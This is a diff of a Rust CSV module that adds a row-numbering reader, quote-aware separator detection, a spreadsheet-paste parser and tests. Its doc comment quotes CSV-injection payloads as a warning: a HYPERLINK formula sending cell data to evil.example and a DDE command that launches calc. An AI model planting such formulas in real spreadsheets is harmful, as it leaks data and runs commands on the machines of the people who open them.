@@ -1,5 +1,5 @@
-//! Every CSV the app writes goes through [`CsvOut`], and every CSV it reads through [`reader`]
-//! and [`plain_record`], because a CSV is opened in a spreadsheet and a spreadsheet runs cells as
+//! Every CSV the app writes goes through [`CsvOut`], and every CSV it reads through [`read`]
+//! (a paste, through [`pasted_rows`]), because a CSV is opened in a spreadsheet and a spreadsheet runs cells as
 //! formulas. A challenge titled `=HYPERLINK("http://evil.example/?x="&B2,"Open")`, or a sign-in
 //! email `@SUM(1+1)*cmd|' /C calc'!A0` in the audit trail, would run on the faculty member's
 //! machine when they open the export (OWASP, "CSV Injection").
@@ -171,30 +171,206 @@ fn needs_quotes(field: &str) -> bool {
         .any(|b| matches!(b, b',' | b'"' | b'\r' | b'\n' | b';' | b'\t'))
 }
 
-/// The separator a spreadsheet used: whichever of comma, semicolon or tab its header has most.
+/// The separator a spreadsheet used: whichever of comma, semicolon or tab the header row has
+/// most of outside quotes (a header cell may be `"Comments, if any"` in a file split on `;`).
 fn delimiter(text: &str) -> u8 {
-    let header = text.lines().next().unwrap_or("");
+    let mut counts = [0usize; 3];
+    let mut quoted = false;
+    for c in text.trim_start_matches(['\r', '\n']).chars() {
+        match c {
+            '"' => quoted = !quoted,
+            '\r' | '\n' if !quoted => break,
+            ',' if !quoted => counts[0] += 1,
+            ';' if !quoted => counts[1] += 1,
+            '\t' if !quoted => counts[2] += 1,
+            _ => {}
+        }
+    }
     [b',', b';', b'\t']
         .into_iter()
-        .max_by_key(|d| header.matches(*d as char).count())
-        .unwrap_or(b',')
+        .zip(counts)
+        .max_by_key(|(_, n)| *n)
+        .map_or(b',', |(d, _)| d)
 }
 
-/// A reader for a CSV someone brings in: a byte-order mark dropped, the separator guessed from
-/// the header, rows of any length. Read its header and records through [`plain_record`].
-pub fn reader(text: &str) -> csv::Reader<&[u8]> {
+/// A CSV someone brings in, read as rows: a byte-order mark dropped, the separator guessed from
+/// the header, rows of any length, every cell through [`plain`].
+///
+/// Each row is named by the row a spreadsheet shows it on (the header is row 1), since that is
+/// where the person opening the file looks: a record is one row however many lines its quoted
+/// cells span, named by the row it starts on; a blank line is a row of its own; CRLF, LF and a
+/// lone CR each end one line. The `csv` crate's `Position::line()` will not do: it counts the
+/// LFs read before the reader went looking for the record, which after CRLF is one short (the
+/// LF is still unread), and it counts the line breaks inside quoted cells.
+pub struct CsvIn<'a> {
+    text: &'a [u8],
+    reader: csv::Reader<&'a [u8]>,
+    /// The row of the record read last; before the first, the row before the file's first.
+    row: i64,
+    /// The byte the record read last starts at.
+    start: usize,
+}
+
+/// A row of a [`CsvIn`]: its number and its cells, or `None` when it could not be read as CSV.
+pub struct Row {
+    pub line: i64,
+    pub record: Option<csv::StringRecord>,
+}
+
+pub fn read(text: &str) -> CsvIn<'_> {
     let text = text.trim_start_matches('\u{feff}');
-    csv::ReaderBuilder::new()
-        .delimiter(delimiter(text))
-        .flexible(true)
-        .from_reader(text.as_bytes())
+    CsvIn {
+        text: text.as_bytes(),
+        reader: csv::ReaderBuilder::new()
+            .delimiter(delimiter(text))
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(text.as_bytes()),
+        row: 0,
+        start: 0,
+    }
 }
 
-/// A record as its writer meant it: every field through [`plain`], the position kept.
-pub fn plain_record(record: &csv::StringRecord) -> csv::StringRecord {
-    let mut out: csv::StringRecord = record.iter().map(plain).collect();
-    out.set_position(record.position().cloned());
-    out
+/// How many lines the line breaks in `run` end: CRLF, LF and a lone CR are one each.
+fn line_breaks(run: &[u8]) -> i64 {
+    run.iter()
+        .enumerate()
+        .filter(|(i, b)| **b == b'\n' || (**b == b'\r' && run.get(i + 1) != Some(&b'\n')))
+        .count() as i64
+}
+
+impl CsvIn<'_> {
+    /// The header row: empty for an empty file, `None` when it could not be read.
+    pub fn header(&mut self) -> Option<csv::StringRecord> {
+        self.next()
+            .map_or(Some(csv::StringRecord::new()), |r| r.record)
+    }
+}
+
+impl Iterator for CsvIn<'_> {
+    type Item = Row;
+
+    fn next(&mut self) -> Option<Row> {
+        let from = self.reader.position().byte() as usize;
+        let mut record = csv::StringRecord::new();
+        let read = self.reader.read_record(&mut record);
+        if matches!(read, Ok(false)) {
+            return None;
+        }
+        // The reader skips line breaks before a record (an unread LF, blank lines), and no
+        // record starts with one, so the record starts after them...
+        let start = from
+            + self.text[from..]
+                .iter()
+                .take_while(|b| matches!(b, b'\r' | b'\n'))
+                .count();
+        // ...and, as no record ends with one outside quotes either, those at the end of what
+        // lies between the last record's start and this one's are all the rows in between.
+        let between = &self.text[self.start..start];
+        let run = between.len()
+            - between
+                .iter()
+                .rev()
+                .take_while(|b| matches!(b, b'\r' | b'\n'))
+                .count();
+        let breaks = line_breaks(&between[run..]);
+        // Blank lines before the header are rows too.
+        self.row = self.row.max(1) + breaks;
+        self.start = start;
+        Some(Row {
+            line: self.row,
+            record: read.ok().map(|_| record.iter().map(plain).collect()),
+        })
+    }
+}
+
+/// One row of a paste: the line of the box it starts on, and its cells.
+#[derive(Debug, PartialEq, Eq)]
+pub struct PastedRow {
+    pub line: usize,
+    pub cells: Vec<String>,
+}
+
+/// Splits text pasted from a spreadsheet into rows of cells. Spreadsheets copy cells split by
+/// tabs, so a row with a tab (outside quotes) is split on tabs only and a comma in it is part of
+/// a number; other rows, typed or from a CSV, split on commas and semicolons. A cell in double
+/// quotes may hold separators, doubled quotes and line breaks, as a spreadsheet copies them.
+/// Unlike a file, a paste is named by the line of the box its row starts on (CRLF, LF and a
+/// lone CR each end one), since the box is what the person is looking at.
+pub fn pasted_rows(text: &str) -> Vec<PastedRow> {
+    let text = text.trim_start_matches('\u{feff}');
+    let mut rows = vec![];
+    let (mut line, mut start, mut from) = (1, 1, 0);
+    // Whether inside quotes, and whether the cell so far is only spaces (a quote there opens).
+    let (mut quoted, mut fresh) = (false, true);
+    let mut chars = text.char_indices().peekable();
+    while let Some((i, c)) = chars.next() {
+        match c {
+            '"' if quoted => {
+                if chars.next_if(|(_, n)| *n == '"').is_none() {
+                    quoted = false;
+                }
+            }
+            '"' if fresh => (quoted, fresh) = (true, false),
+            '\t' | ',' | ';' if !quoted => fresh = true,
+            '\r' | '\n' => {
+                if c == '\r' {
+                    chars.next_if(|(_, n)| *n == '\n');
+                }
+                line += 1;
+                if !quoted {
+                    rows.push(PastedRow {
+                        line: start,
+                        cells: pasted_cells(&text[from..i]),
+                    });
+                    from = chars.peek().map_or(text.len(), |(j, _)| *j);
+                    (start, fresh) = (line, true);
+                }
+            }
+            ' ' => {}
+            _ => fresh = false,
+        }
+    }
+    if from < text.len() {
+        rows.push(PastedRow {
+            line: start,
+            cells: pasted_cells(&text[from..]),
+        });
+    }
+    rows
+}
+
+/// The cells of one pasted row, quotes taken off.
+fn pasted_cells(row: &str) -> Vec<String> {
+    let split = |separators: &[char]| {
+        let mut cells = vec![String::new()];
+        let mut quoted = false;
+        let mut chars = row.chars().peekable();
+        while let Some(c) = chars.next() {
+            let cell = cells.last_mut().expect("never empty");
+            match c {
+                '"' if quoted && chars.peek() == Some(&'"') => {
+                    chars.next();
+                    cell.push('"');
+                }
+                '"' if quoted => quoted = false,
+                // A quote opens a quoted cell only at its start, as in a CSV.
+                '"' if cell.trim().is_empty() => {
+                    cell.clear();
+                    quoted = true;
+                }
+                c if !quoted && separators.contains(&c) => cells.push(String::new()),
+                c => cell.push(c),
+            }
+        }
+        cells
+    };
+    let tabbed = split(&['\t']);
+    if tabbed.len() > 1 {
+        tabbed
+    } else {
+        split(&[',', ';'])
+    }
 }
 
 #[cfg(test)]
@@ -211,20 +387,9 @@ mod tests {
     /// Reads `bytes` back as an importer does.
     fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
         let text = std::str::from_utf8(bytes).unwrap();
-        let mut r = reader(text);
-        let mut rows = vec![plain_record(r.headers().unwrap())
-            .iter()
-            .map(str::to_owned)
-            .collect::<Vec<_>>()];
-        for rec in r.records() {
-            rows.push(
-                plain_record(&rec.unwrap())
-                    .iter()
-                    .map(str::to_owned)
-                    .collect(),
-            );
-        }
-        rows
+        read(text)
+            .map(|row| row.record.unwrap().iter().map(str::to_owned).collect())
+            .collect()
     }
 
     #[test]
@@ -306,6 +471,62 @@ mod tests {
         assert_eq!(read_back(&bytes), [["only"], [""], ["-"]]);
     }
 
+    /// Each row's number and first cell, as the importers read them.
+    fn numbered(text: &str) -> Vec<(i64, String)> {
+        read(text)
+            .map(|r| (r.line, r.record.unwrap()[0].to_owned()))
+            .collect()
+    }
+
+    #[test]
+    fn rows_are_numbered_as_a_spreadsheet_shows_them() {
+        for end in ["\r\n", "\n", "\r"] {
+            // A quoted line break keeps one row; a blank line is a row; a BOM is no row.
+            let text = "\u{feff}h,note\n2,\"a, b\"\n3,\"two\nlines\"\n\n5,x\n \n7,\"\"\"q\"\"\"\n"
+                .replace('\n', end);
+            let rows = numbered(&text);
+            let want = [(1, "h"), (2, "2"), (3, "3"), (5, "5"), (6, " "), (7, "7")];
+            assert_eq!(rows, want.map(|(n, c)| (n, c.to_owned())), "{text:?}");
+        }
+        // Blank lines before the header count too, and no final line break is needed.
+        assert_eq!(
+            numbered("\r\n\r\nh\r\n\r\nx"),
+            [(3, "h".to_owned()), (5, "x".to_owned())]
+        );
+        assert!(numbered("").is_empty());
+        assert_eq!(read("").header(), Some(csv::StringRecord::new()));
+    }
+
+    #[test]
+    fn the_separator_is_guessed_from_the_header_outside_quotes() {
+        assert_eq!(delimiter("\"Roles, formal, held\";Email\r\n"), b';');
+        assert_eq!(delimiter("\r\na\tb\tc\n1,2,3,4"), b'\t');
+        assert_eq!(delimiter("a,b;c,d"), b',');
+    }
+
+    #[test]
+    fn a_paste_is_split_by_its_own_separator_and_named_by_its_first_line() {
+        let rows = pasted_rows(
+            "\u{feff}Week\t\"Minutes\r\nwaited\"\r\n07/09/2026\t1,041\r\n\r\n\
+             2026-09-14, \"1,040\"\r2026-09-21;\"say \"\"40\"\"\"\n5\" tall,3",
+        );
+        let want: [(usize, &[&str]); 6] = [
+            (1, &["Week", "Minutes\r\nwaited"]),
+            (3, &["07/09/2026", "1,041"]),
+            (4, &[""]),
+            (5, &["2026-09-14", "1,040"]),
+            (6, &["2026-09-21", "say \"40\""]),
+            (7, &["5\" tall", "3"]),
+        ];
+        assert_eq!(
+            rows,
+            want.map(|(line, cells)| PastedRow {
+                line,
+                cells: cells.iter().map(|c| c.to_string()).collect()
+            })
+        );
+    }
+
     /// A string built from the characters that matter here, and a few others.
     fn awkward(rng: &mut impl Rng) -> String {
         const PARTS: &[&str] = &[
@@ -362,6 +583,35 @@ mod tests {
             }
             // ...and through the importers' reader.
             assert_eq!(read_back(&bytes)[1], row);
+        }
+    }
+
+    #[test]
+    fn any_file_reads_back_with_the_rows_a_spreadsheet_shows() {
+        let mut rng = rand::rngs::StdRng::seed_from_u64(15);
+        for _ in 0..5_000 {
+            let end = ["\r\n", "\n", "\r"][rng.gen_range(0..3)];
+            let mut text = String::from(if rng.gen_bool(0.5) { "\u{feff}" } else { "" });
+            let (mut row, mut want) = (0, vec![]);
+            for _ in 0..rng.gen_range(1..6) {
+                while rng.gen_bool(0.2) {
+                    text.push_str(end);
+                    row += 1;
+                }
+                let cells: [String; 3] = std::array::from_fn(|_| awkward(&mut rng));
+                let one = CsvOut::<3>::new(cells.each_ref().map(String::as_str)).into_bytes();
+                text.push_str(std::str::from_utf8(&one).unwrap().trim_end_matches('\n'));
+                text.push_str(end);
+                row += 1;
+                want.push((row, cells.to_vec()));
+            }
+            let got: Vec<(i64, Vec<String>)> = read(&text)
+                .map(|r| {
+                    let cells = r.record.unwrap().iter().map(str::to_owned).collect();
+                    (r.line, cells)
+                })
+                .collect();
+            assert_eq!(got, want, "{text:?}");
         }
     }
 
